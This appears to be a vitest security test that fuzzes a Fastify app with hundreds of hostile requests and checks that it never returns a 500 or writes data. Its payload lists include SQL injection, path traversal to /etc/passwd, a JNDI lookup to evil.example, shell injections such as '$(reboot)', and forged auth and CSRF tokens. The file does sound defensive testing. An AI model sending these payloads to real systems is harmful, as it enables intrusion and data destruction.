// The phase-2 proof: hundreds of generated hostile or malformed requests against the real app —
// injection in every parameter, path traversal, oversized bodies and headers, malformed JSON and
// cursors, wrong content types, missing or forged tokens and CSRF tokens, spoofed X-Forwarded-For —
// must produce no response ≥ 500 and write nothing: every table's rows are counted and hashed
// before and after.
import { createHash } from 'node:crypto';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '../src/storage/db.js';
import { createTestDb, requirePostgres, type TestDb } from './support/databases.js';
import { buildTestApp, type TestApp } from './support/app.js';
import { makeListings, storeTestListings } from './support/listings.js';

const ADMIN = 'test-admin-token-0123456789';
const pgOk = await requirePostgres();

const PAYLOADS = [
  "' OR '1'='1",
  '1; DROP TABLE opportunities;--',
  '1) UNION SELECT key, value FROM settings--',
  '{"$ne": null}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '%0d%0aSet-Cookie:%20x=1',
  '${jndi:ldap://evil.example/a}',
  '1e309',
  '-99999999999999999999999',
  'NaN',
  '__proto__',
  'x'.repeat(3000),
  '%F0%9F%92%A9%C0%AF',
  '%FF%FE',
  "admin'--",
  '$(reboot)',
  '|| sleep 5',
];
const LIST_PARAMS = [
  'page',
  'cursor',
  'limit',
  'sort',
  'state',
  'make',
  'model',
  'source',
  'status',
  'minProfit',
  'minRoi',
  'maxRisk',
  'yearMin',
  'yearMax',
  'endsBefore',
  'minHeadroom',
];
const FORGED_BEARERS = [
  '',
  'Bearer',
  'Bearer ',
  'Bearer x',
  `Bearer ${ADMIN} x`,
  `Bearer ${ADMIN}x`,
  `bearer ${ADMIN.slice(0, -1)}`,
  `Basic ${Buffer.from(`admin:${ADMIN}`).toString('base64')}`,
  `Bearer ${'A'.repeat(4000)}`,
  "Bearer ' OR 1=1 --",
  `Bearer ${ADMIN.toUpperCase()}`,
  'Token abc',
];
const BAD_JSON = [
  '{',
  '{"ENABLE_RATE_LIMITING": tru}',
  '[1,2',
  '{"a":1}}',
  'null',
  '"string"',
  '{"__proto__": {"ENABLE_CSRF_PROTECTION": false}}',
  '{"constructor": {"prototype": {"x": 1}}}',
  '{"ENABLE_RATE_LIMITING": "yes"}',
  '{"MAX_BROWSER_CONTEXTS": 1e309}',
  '{"NOT_A_FLAG": true}',
  '\u0000',
  '{"a":"\ud800"}',
  `{"a":"${'x'.repeat(2_000_000)}"}`,
];
const BAD_CURSORS = [
  'x',
  '====',
  'eyJhbGciOiJub25lIn0.e30.',
  'a'.repeat(2049),
  '%00%00',
  'null',
  '../../',
  'eyJrIjoxfQ',
  Buffer.from('{"key":1,"id":1}').toString('base64url'),
  Buffer.from('{"key":"1 OR 1=1","id":"1;--"}').toString('base64url'),
  '1.2.3',
  'AAAA.BBBB',
  '%E2%80%AE',
];
const CONTENT_TYPES = [
  'text/plain',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-7',
  'text/csv',
  'application/x-www-form-urlencoded',
  'image/png',
  'garbage',
  'application/json;;;',
  '',
];
const POST_ROUTES = [
  '/admin/imports',
  '/admin/feature-flags',
  '/console/login',
  '/console/logout',
  '/console/flags',
  '/console/rollout/advance',
  '/console/rollout/rollback',
  '/console/rollout/rearm',
];
const TRAVERSAL = [
  '/../etc/passwd',
  '/api/../../etc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/api/opportunities/..%2f..%2fadmin',
  '/console/assets/..%2f..%2f..%2fpackage.json',
  '/console/assets/../../../data/dealerscope.db',
  '/admin/../console',
  '//etc/passwd',
  '/api/opportunities/%2e%2e',
  '/console/assets/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '/openapi.json/../../package.json',
  '/metrics/..;/admin/feature-flags',
  '/api/opportunities;/../admin',
  '/\\..\\..\\windows\\win.ini',
  '/api/opportunities/1/provenance/../../../../etc/passwd',
];

async function snapshot(db: Db): Promise<Record<string, string>> {
  const names =
    db.dialect === 'sqlite'
      ? (
          await sql<{ name: string }>`SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'`.execute(db.kysely)
        ).rows.map((r) => r.name)
      : (await sql<{ name: string }>`SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public'`.execute(db.kysely)).rows.map(
          (r) => r.name,
        );
  const out: Record<string, string> = {};
  for (const name of names.sort()) {
    const rows = (await sql<Record<string, unknown>>`SELECT * FROM ${sql.table(name)}`.execute(db.kysely)).rows;
    const text = rows
      .map((r) => JSON.stringify(r))
      .sort()
      .join('\n');
    out[name] = `${rows.length} rows ${createHash('sha256').update(text).digest('hex').slice(0, 16)}`;
  }
  return out;
}

describe.each([
  { dialect: 'sqlite' as const, run: true },
  { dialect: 'postgres' as const, run: pgOk },
])('attack suite on $dialect', ({ dialect, run }) => {
  let tdb: TestDb;
  let t: TestApp;
  let app: FastifyInstance;
  let session = '';
  let sessionCsrf = '';

  beforeAll(async () => {
    if (!run) return;
    tdb = await createTestDb(dialect);
    await storeTestListings(tdb.db, makeListings(30, 11));
    t = await buildTestApp(tdb.db, { RATE_LIMIT_PER_MINUTE: '100' });
    app = t.app;
    // A real session, so forged CSRF tokens are tried against a live one; made before the baseline.
    const login = await app.inject({
      method: 'POST',
      url: '/console/login',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'http://localhost' },
      payload: `token=${ADMIN}`,
    });
    session = login.cookies.find((c) => c.name === 'ds_session')?.value ?? '';
    expect(session).not.toBe('');
    const { csrfToken } = await import('../src/security/console-auth.js');
    sessionCsrf = csrfToken({ cookies: { ds_session: session }, server: app } as never);
  });
  afterAll(async () => {
    if (!run) return;
    await app.close();
    await tdb.drop();
  });

  it.runIf(run)(
    'answers every hostile request below 500 and writes nothing',
    async () => {
      const requests: Array<{ label: string; opts: InjectOptions }> = [];
      let addr = 0;
      // Each attack comes from its own address so the per-IP limit does not hide what lies behind it.
      const add = (label: string, opts: InjectOptions) =>
        requests.push({ label, opts: { remoteAddress: `10.${(++addr >> 16) & 255}.${(addr >> 8) & 255}.${addr & 255}`, ...opts } });

      for (const param of LIST_PARAMS)
        for (const p of PAYLOADS) add(`query ${param}`, { method: 'GET', url: `/api/opportunities?${param}=${encodeURIComponent(p)}` });
      for (const param of LIST_PARAMS.slice(0, 5))
        for (const p of PAYLOADS.slice(0, 8))
          add(`raw query ${param}`, {
            method: 'GET',
            url: `/api/opportunities?${param}=${p.replace(/ /g, '+')}&${param}[]=${p.replace(/ /g, '+')}`,
          });
      for (const p of PAYLOADS) {
        add('path id', { method: 'GET', url: `/api/opportunities/${encodeURIComponent(p)}` });
        add('path id provenance', { method: 'GET', url: `/api/opportunities/${encodeURIComponent(p)}/provenance` });
        add('header injection', {
          method: 'GET',
          url: '/api/opportunities',
          headers: {
            'x-request-id': p.replace(/[^\x20-\x7e]/g, ''),
            'if-none-match': p.replace(/[^\x20-\x7e]/g, ''),
            'x-api-key': p.replace(/[^\x20-\x7e]/g, ''),
          },
        });
      }
      for (const c of BAD_CURSORS) add('cursor', { method: 'GET', url: `/api/opportunities?cursor=${encodeURIComponent(c)}` });
      for (const url of TRAVERSAL) for (const method of ['GET', 'POST'] as const) add('traversal', { method, url });
      for (const route of POST_ROUTES) {
        for (const type of CONTENT_TYPES)
          add(`content type ${route}`, {
            method: 'POST',
            url: route,
            headers: { authorization: `Bearer ${ADMIN}`, ...(type ? { 'content-type': type } : {}) },
            payload: 'a=1&b=2',
          });
        for (const auth of FORGED_BEARERS)
          add(`forged bearer ${route}`, {
            method: 'POST',
            url: route,
            headers: { ...(auth ? { authorization: auth } : {}), 'content-type': 'application/json' },
            payload: '{"ENABLE_RATE_LIMITING": false}',
          });
      }
      for (const url of ['/admin/feature-flags', '/admin/rollout', '/admin/feature-flags/registry', '/console', '/console/events']) {
        for (const auth of FORGED_BEARERS)
          add(`forged bearer GET ${url}`, { method: 'GET', url, headers: auth ? { authorization: auth } : {} });
      }
      for (const body of BAD_JSON) {
        add('malformed JSON flags (admin)', {
          method: 'POST',
          url: '/admin/feature-flags',
          headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
          payload: body,
        });
        add('malformed JSON import (admin)', {
          method: 'POST',
          url: '/admin/imports',
          headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
          payload: body,
        });
      }
      add('oversized import', {
        method: 'POST',
        url: '/admin/imports',
        headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'text/csv' },
        payload: 'x'.repeat(11 * 1024 * 1024),
      });
      add('oversized login', {
        method: 'POST',
        url: '/console/login',
        headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'http://localhost' },
        payload: `token=${'x'.repeat(100_000)}`,
      });
      add('oversized flags', {
        method: 'POST',
        url: '/admin/feature-flags',
        headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
        payload: `{"a":"${'x'.repeat(3 * 1024 * 1024)}"}`,
      });
      add('body on GET', { method: 'GET', url: '/api/opportunities', headers: { 'content-type': 'application/json' }, payload: '{"a":1}' });
      for (const size of [9_000, 20_000, 60_000]) {
        add(`big header ${size}`, { method: 'GET', url: '/api/opportunities', headers: { 'x-filler': 'a'.repeat(size) } });
        add(`big cookie ${size}`, { method: 'GET', url: '/console', headers: { cookie: `ds_session=${'b'.repeat(size)}` } });
      }
      add('many headers', {
        method: 'GET',
        url: '/api/opportunities',
        headers: Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`x-h${i}`, 'v'])),
      });
      add('long url', { method: 'GET', url: `/api/opportunities?make=${'m'.repeat(20_000)}` });
      // Forged CSRF against a live session: missing, wrong, another scheme's origin, stolen-looking token on the wrong session.
      const csrfCases: Array<[Record<string, string>, string]> = [
        [{ origin: 'http://localhost' }, ''],
        [{ origin: 'http://localhost' }, '_csrf=forged'],
        [{ origin: 'http://localhost' }, `_csrf=${'A'.repeat(43)}`],
        [{ origin: 'https://evil.example' }, `_csrf=${sessionCsrf}`],
        [{ origin: 'null' }, `_csrf=${sessionCsrf}`],
        [{ referer: 'http://localhost.evil.example/' }, `_csrf=${sessionCsrf}`],
        [{}, `_csrf=${sessionCsrf}`],
        [{ origin: 'http://localhost', 'x-csrf-token': 'nope' }, ''],
        [{ origin: 'http://localhost:8081' }, `_csrf=${sessionCsrf}`],
      ];
      for (const route of ['/console/logout', '/console/flags', '/console/rollout/advance', '/console/rollout/rollback']) {
        for (const [headers, body] of csrfCases)
          add(`csrf ${route}`, {
            method: 'POST',
            url: route,
            cookies: { ds_session: session },
            headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
            payload: body,
          });
      }
      // Spoofed X-Forwarded-For from one socket address: the limit must still bite.
      const spoofed: InjectOptions[] = Array.from({ length: 130 }, (_, i) => ({
        method: 'GET',
        url: '/api/opportunities?limit=1',
        remoteAddress: '192.0.2.200',
        headers: { 'x-forwarded-for': `${i % 256}.1.2.3, 127.0.0.1`, 'x-real-ip': `8.8.${i % 256}.8` },
      }));
      for (const opts of spoofed) requests.push({ label: 'spoofed xff', opts });
      for (const method of ['PUT', 'DELETE', 'PATCH', 'TRACE', 'OPTIONS'] as const)
        for (const url of ['/api/opportunities', '/admin/feature-flags', '/admin/imports', '/console/login'])
          add(`method ${method}`, { method, url });

      expect(requests.length).toBeGreaterThanOrEqual(500);
      const before = await snapshot(tdb.db);
      const byStatus = new Map<number, number>();
      const fivehundreds: string[] = [];
      let spoofedOk = 0;
      for (const r of requests) {
        const res = await app.inject(r.opts);
        byStatus.set(res.statusCode, (byStatus.get(res.statusCode) ?? 0) + 1);
        if (res.statusCode >= 500)
          fivehundreds.push(`${r.label} ${r.opts.method} ${String(r.opts.url).slice(0, 80)} → ${res.statusCode} ${res.body.slice(0, 160)}`);
        if (r.label === 'spoofed xff' && res.statusCode === 200) spoofedOk++;
      }
      const after = await snapshot(tdb.db);
      console.log(
        `attack suite (${dialect}): ${requests.length} requests; status counts ${JSON.stringify(Object.fromEntries([...byStatus].sort((a, b) => a[0] - b[0])))}; ≥500: ${fivehundreds.length}; tables compared: ${Object.keys(before).length}`,
      );
      expect(fivehundreds).toEqual([]);
      expect(after).toEqual(before);
      expect(spoofedOk).toBe(100);
    },
    120_000,
  );
});
